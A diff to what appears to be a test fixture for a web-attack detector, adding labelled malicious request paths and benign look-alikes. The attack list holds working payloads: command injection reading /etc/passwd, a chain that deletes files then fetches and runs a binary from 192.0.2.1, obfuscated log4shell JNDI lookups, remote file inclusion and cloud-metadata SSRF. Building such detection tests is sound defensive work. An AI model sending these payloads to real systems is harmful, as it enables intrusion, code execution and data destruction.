@@ -32,6 +32,8 @@ ATTACKS = [
     ("Command injection", "/ping?ip=127.0.0.1;cat%20/etc/passwd"),
     ("Command injection", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws"),
     ("Command injection", "/a?x=|id"),
+    ("Command injection", "/a?host=127.0.0.1%26%26whoami"),
+    ("log4shell (JNDI lookup)", "/?x=${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}"),
     ("log4shell (JNDI lookup)", "/?x=${jndi:ldap://192.0.2.1:1389/a}"),
     ("log4shell (JNDI lookup)", "/?x=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:ldap://192.0.2.1/a%7D"),
     ("Remote or local file inclusion", "/index.php?page=http://192.0.2.1/shell.txt"),
@@ -43,7 +45,7 @@ ATTACKS = [
     ("Server-side request forgery", "/fetch?url=http://169.254.169.254/latest/meta-data/"),
 ]
 HARMLESS = [
-    "/", "/search?q=select+a+union+from+the+list", "/index.php?id=42&name=O%27Brien", "/a/../b.css", "/wiki/Path_(computing)",
+    "/", "/a?x=$(id).hide()%26%26id", "/p?t=whoami&price=$%7Bamount%7D", "/search?q=select+a+union+from+the+list", "/index.php?id=42&name=O%27Brien", "/a/../b.css", "/wiki/Path_(computing)",
     "/track?u=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3Dc&t=1600000000", "/q?text=it%27s%20a%20cat%20and%20a%20dog", "/lib/jquery-3.6.0.min.js?v=1.2.3",
     "/search?q=how+to+drop+a+table+in+sql", "/p?x=1%2C2%2C3&sort=name+asc", "/img/on.png?onload=1", "/a?filter=(a|b)&order=-date",
     "/complete/search?client=chrome&q=bin%20sh", "/news/2021/12/log4j-explained", "/login?next=/home&user=a@example.com", "/x?data=eyJhIjoxfQ%3D%3D",
